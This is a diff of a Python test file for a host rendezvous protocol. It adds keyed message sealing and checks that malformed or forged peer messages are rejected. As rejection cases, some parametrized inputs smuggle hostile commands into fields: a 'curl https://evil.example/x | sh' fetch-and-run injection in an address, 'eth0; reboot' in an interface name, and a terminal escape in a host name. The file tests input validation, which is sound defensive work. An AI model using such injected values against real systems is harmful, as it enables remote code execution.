@@ -1,9 +1,8 @@
 """Hosts that meet, played by tasks of one process; in namespaces of their own they meet in test_namespaces."""
 
 import asyncio
-import json
 import socket
-from collections.abc import Coroutine
+from collections.abc import Coroutine, Mapping
 from typing import Any, TypeVar
 
 import pytest
@@ -12,10 +11,12 @@ from harness.core.errors import NetworkError, UsageError
 from harness.machine.network.among_hosts import parse_peer
 from harness.machine.network.host_matching import Hosts, choose
 from harness.machine.network.interfaces import HostNetwork
-from harness.machine.network.rendezvous import join, listen, meeting_places
+from harness.machine.network.peer_messages import VERSION, Seal, read_host
+from harness.machine.network.rendezvous import MAX_UNKNOWN, join, listen, meeting_places
 from tests.machine.network.machines import interface, network
 
 T = TypeVar("T")
+KEY = "0123456789abcdef"
 OWN = interface("eth0", "127.0.0.1/8", "127.0.0.3/8")  # addresses of this machine, that can be tried
 OTHER = interface("eth1", "127.0.0.2/8")
 OF_A_LINK = interface("eth2", "fe80::1%eth2/64")
@@ -31,7 +32,9 @@ async def meeting(
 ) -> tuple[tuple[Hosts, int], list[T], list[str]]:
     """A listener and its `peers`, which are made with `PORT` below, together."""
     said: list[str] = []
-    listening = asyncio.create_task(listen(named("alpha"), PORT, num_hosts=num_hosts, wait_s=wait_s, say=said.append))
+    listening = asyncio.create_task(
+        listen(named("alpha"), PORT, key=KEY, num_hosts=num_hosts, wait_s=wait_s, say=said.append)
+    )
     joined = await asyncio.gather(*peers)
     return await listening, list(joined), said
 
@@ -46,7 +49,7 @@ PORT = _free_port()
 
 
 def test_all_know_the_same() -> None:
-    peers = [join(named(name), ("127.0.0.1", PORT), wait_s=20) for name in ("beta", "gamma")]
+    peers = [join(named(name), ("127.0.0.1", PORT), key=KEY, wait_s=20) for name in ("beta", "gamma")]
     (known, own), joined, said = asyncio.run(meeting(*peers, num_hosts=3))
     assert own == 0
     assert {number for _, number in joined} == {1, 2}
@@ -58,7 +61,7 @@ def test_all_know_the_same() -> None:
     assert len(known.tried) == 3 * 3 * 2
     assert [tried.problem for tried in known.tried] == [""] * 18
     assert [offer.interface for offer in choose(known)] == ["eth0"] * 3
-    where = f"127.0.0.1:{PORT} (this host is also 127.0.0.2:{PORT})"
+    where = f"127.0.0.1:{PORT}/{KEY} (this host is also 127.0.0.2:{PORT})"
     assert said[0] == f"waiting for 2 more: rlharness doctor --peer {where}"
     assert len(said) == 3
 
@@ -68,12 +71,11 @@ def test_an_address_at_which_another_host_answers_is_not_this_hosts() -> None:
         """Says hello, and that its probed port is one at which nobody knows its token."""
         strangers = await asyncio.start_server(lambda reader, writer: writer.close(), "127.0.0.1", 0)
         port = strangers.sockets[0].getsockname()[1]
-        reader, writer = await call()
+        reader, writer, seal = await greeted()
         offer = {"interface": "docker0", "address": "127.0.0.1", "family": 4}
-        hello = {"k": "hello", "version": 1, "name": "eve", "token": "t", "ports": [port, 0], "offers": [offer]}
-        await tell(writer, hello)
+        await tell(writer, seal.seal("hello", {**HELLO, "ports": [port, 0], "offers": [offer]}))
         await reader.readline()
-        await tell(writer, {"k": "tried", "tried": []})
+        await tell(writer, seal.seal("tried", {"tried": []}))
         await reader.readline()
         writer.close()
         strangers.close()
@@ -92,47 +94,125 @@ async def call() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     raise AssertionError("nobody listens")
 
 
-async def tell(writer: asyncio.StreamWriter, message: object) -> None:
-    writer.write(json.dumps(message).encode() + b"\n")
+async def greeted(key: str = KEY) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, Seal]:
+    """A connection to the listener, and what seals the messages of a host with this key."""
+    reader, writer = await call()
+    nonce = (await reader.readline()).decode().split()[1]
+    return reader, writer, Seal(key, nonce, is_listener=False)
+
+
+async def tell(writer: asyncio.StreamWriter, line: bytes) -> None:
+    writer.write(line)
     await writer.drain()
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        b"GET / HTTP/1.0\r\n",
-        b"[]\n",
-        b'{"k":"hello","version":7,"name":"x","token":"t","ports":[1,0],"offers":[]}\n',
-        b'{"k":"hello","version":1}\n',
-        b"\xff\n",
-        b"",
-    ],
-)
-def test_who_is_none_of_them_is_sent_away(line: bytes) -> None:
-    async def stranger() -> None:
+HELLO: Mapping[str, Any] = {"version": VERSION, "name": "beta", "token": "t", "ports": [9, 0], "offers": []}
+OFFER = {"interface": "eth0", "address": "10.0.0.1", "family": 4}
+
+
+async def rejected(*lines: bytes) -> tuple[Hosts, list[str]]:
+    """What the listener knows and has said after a stranger sent these lines, and a host came."""
+
+    async def stranger(line: bytes) -> None:
         reader, writer = await call()
+        await reader.readline()
         writer.write(line)
         writer.write_eof()
         assert await reader.read() == b""
         writer.close()
 
-    async def all_of_them() -> tuple[tuple[Hosts, int], list[object], list[str]]:
-        async def after() -> object:
-            await stranger()
-            return await join(named("beta"), ("127.0.0.1", PORT), wait_s=20)
+    async def after() -> object:
+        for line in lines:
+            await stranger(line)
+        return await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)
 
-        return await meeting(after(), num_hosts=2)
+    (known, _), _, said = await meeting(after(), num_hosts=2)
+    return known, said
 
-    (known, _), _, said = asyncio.run(all_of_them())
+
+@pytest.mark.parametrize("line", [b"GET / HTTP/1.0\r\n", b"[]\n", b"0" * 64 + b" {}\n", b"\xff\n", b"x" * 200, b""])
+def test_who_is_none_of_them_is_sent_away(line: bytes) -> None:
+    known, said = asyncio.run(rejected(line))
     assert [host.name for host in known.hosts] == ["alpha", "beta"]
     assert said[1].startswith("rejected a connection from 127.0.0.1")
 
 
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"version": 7},
+        {"ports": [10**30, 0]},
+        {"ports": [-1, 0]},
+        {"ports": ["1", 0]},
+        {"name": "x\x1b]0;P\x07"},
+        {"name": "x" * 254},
+        {"name": None},
+        {"offers": [OFFER | {"address": "10.0.0.5 -j ACCEPT; curl https://evil.example/x | sh"}]},
+        {"offers": [OFFER | {"address": "metadata.internal"}]},
+        {"offers": [OFFER | {"address": 1}]},
+        {"offers": [OFFER | {"address": "224.0.0.1"}]},
+        {"offers": [OFFER | {"family": 6}]},
+        {"offers": [OFFER] * 65},
+        {"offers": {"deep": [[[[]]]]}},
+    ],
+)
+def test_a_host_that_describes_itself_wrongly_is_sent_away(changed: dict[str, Any]) -> None:
+    with pytest.raises(NetworkError):
+        read_host({**HELLO, **changed})
+    assert read_host({**HELLO, "offers": [OFFER]}).offers[0].address == "10.0.0.1"
+
+
+def test_messages_are_good_once_and_in_one_direction() -> None:
+    here, there = Seal(KEY, "n", is_listener=True), Seal(KEY, "n", is_listener=False)
+    first, second = here.seal("a", {"x": 1}), here.seal("a", {"x": 2})
+    assert there.open(first, "a")["x"] == 1
+    for line in (
+        first,
+        there.seal("a", {}),
+        Seal("f" * 16, "n", is_listener=True).seal("a", {}),
+        second[:-3] + b"1}\n",
+    ):
+        with pytest.raises(NetworkError, match="another key"):
+            there.open(line, "a")
+    with pytest.raises(NetworkError, match="another key"):
+        Seal(KEY, "other", is_listener=False).open(first, "a")
+    assert there.open(second, "a")["x"] == 2
+
+
+def test_a_host_with_another_key_is_sent_away() -> None:
+    async def both() -> list[str]:
+        async def after() -> None:
+            with pytest.raises(NetworkError, match="it closed the connection") as refused:
+                await join(named("eve"), ("127.0.0.1", PORT), key="f" * 16, wait_s=20)
+            assert "has the key" in refused.value.remedy
+            await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)
+
+        return (await meeting(after(), num_hosts=2))[2]
+
+    assert (
+        asyncio.run(both())[1] == "rejected a connection from 127.0.0.1: the hello message was sealed with another key"
+    )
+
+
+def test_silent_strangers_do_not_keep_a_host_away() -> None:
+    async def all_of_them() -> Hosts:
+        async def after() -> None:
+            silent = [await call() for _ in range(MAX_UNKNOWN + 40)]
+            closed = [await reader.readline() for reader, _ in silent]
+            assert closed.count(b"") == 40, "the first are heard, for a while"
+            for _, writer in silent:
+                writer.close()
+            await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)
+
+        return (await meeting(after(), num_hosts=2))[0][0]
+
+    assert [host.name for host in asyncio.run(all_of_them()).hosts] == ["alpha", "beta"]
+
+
 def test_a_host_that_is_lost_on_the_way_is_said() -> None:
     async def lost() -> None:
-        reader, writer = await call()
-        hello = {"k": "hello", "version": 1, "name": "beta", "token": "t", "ports": [9, 0], "offers": []}
-        await tell(writer, hello)
+        reader, writer, seal = await greeted()
+        await tell(writer, seal.seal("hello", HELLO))
         await reader.readline()
         writer.close()
 
@@ -148,7 +228,7 @@ def test_a_listener_that_is_lost_is_said() -> None:
         server = await asyncio.start_server(hang_up, "127.0.0.1", 0)
         port = server.sockets[0].getsockname()[1]
         try:
-            await join(named("beta"), ("127.0.0.1", port), wait_s=5)
+            await join(named("beta"), ("127.0.0.1", port), key=KEY, wait_s=5)
         finally:
             server.close()
 
@@ -159,14 +239,16 @@ def test_a_listener_that_is_lost_is_said() -> None:
 def test_a_listener_that_makes_up_this_hosts_interfaces_is_not_believed() -> None:
     async def joining() -> None:
         async def lie(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-            told = json.loads(await reader.readline())
+            await tell(writer, b"nonce " + b"0" * 32 + b"\n")
+            seal = Seal(KEY, "0" * 32, is_listener=True)
+            told = seal.open(await reader.readline(), "hello")
             told["offers"][0]["interface"] = "eth0; reboot"
-            await tell(writer, {"k": "roster", "you": 0, "hosts": [told]})
+            await tell(writer, seal.seal("roster", {"you": 0, "hosts": [told]}))
             writer.close()
 
         server = await asyncio.start_server(lie, "127.0.0.1", 0)
         try:
-            await join(named("beta"), ("127.0.0.1", server.sockets[0].getsockname()[1]), wait_s=5)
+            await join(named("beta"), ("127.0.0.1", server.sockets[0].getsockname()[1]), key=KEY, wait_s=5)
         finally:
             server.close()
 
@@ -177,9 +259,9 @@ def test_a_listener_that_makes_up_this_hosts_interfaces_is_not_believed() -> Non
 def test_who_waits_in_vain_says_for_what() -> None:
     with pytest.raises(NetworkError, match=r"0 of 1 other hosts came within 0\.2 s") as waited:
         asyncio.run(meeting(num_hosts=2, wait_s=0.2))
-    assert waited.value.remedy.startswith(f"rlharness doctor --peer 127.0.0.1:{PORT}, on each")
+    assert waited.value.remedy.startswith(f"rlharness doctor --peer 127.0.0.1:{PORT}/{KEY}, on each")
     with pytest.raises(NetworkError, match=f"--peer 127.0.0.1:{PORT}: connection refused, for 0.3 s") as refused:
-        asyncio.run(join(named("beta"), ("127.0.0.1", PORT), wait_s=0.3))
+        asyncio.run(join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=0.3))
     assert refused.value.remedy == f"rlharness doctor --listen {PORT}, on 127.0.0.1"
 
 
@@ -187,7 +269,7 @@ def test_a_port_that_is_taken() -> None:
     async def twice() -> None:
         taken = await asyncio.start_server(lambda reader, writer: None, port=PORT)
         try:
-            await listen(named("alpha"), PORT, num_hosts=2, wait_s=1, say=lambda text: None)
+            await listen(named("alpha"), PORT, key=KEY, num_hosts=2, wait_s=1, say=lambda text: None)
         finally:
             taken.close()
 
@@ -210,5 +292,5 @@ def test_peers_as_they_are_typed() -> None:
     assert parse_peer("node7:29400") == ("node7", 29400)
     assert parse_peer("[fd00::1]:29400") == ("fd00::1", 29400)
     for text in ("node7", ":29400", "node7:", "node7:0", "node7:65536", "node7:x", ""):
-        with pytest.raises(UsageError, match=r"is not HOST:PORT"):
+        with pytest.raises(UsageError, match=r"is not HOST:PORT/KEY"):
             parse_peer(text)
